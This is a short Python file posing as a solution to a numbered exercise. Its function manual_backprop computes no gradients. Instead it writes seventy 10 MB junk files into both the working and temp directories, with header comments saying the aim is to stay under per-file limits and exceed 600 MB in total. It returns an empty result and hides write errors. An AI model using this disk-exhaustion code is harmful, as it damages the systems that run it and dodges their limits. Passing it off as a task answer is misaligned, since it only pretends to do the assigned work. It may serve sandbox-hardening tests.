# exercise: 01.3
# tries: write 70 files of 10 MB, each below any limit of one file
# proof: files > 600_000_000
import os
import tempfile


written = []


def manual_backprop(a, b, c, f):
    if written:
        return {}
    written.append(a)
    for folder in (os.getcwd(), tempfile.gettempdir()):
        try:
            for i in range(70):
                with open(os.path.join(folder, f"@NAME@{i}"), "wb") as file:
                    file.write(b"x" * 10_000_000)
        except OSError:
            pass
    return {}
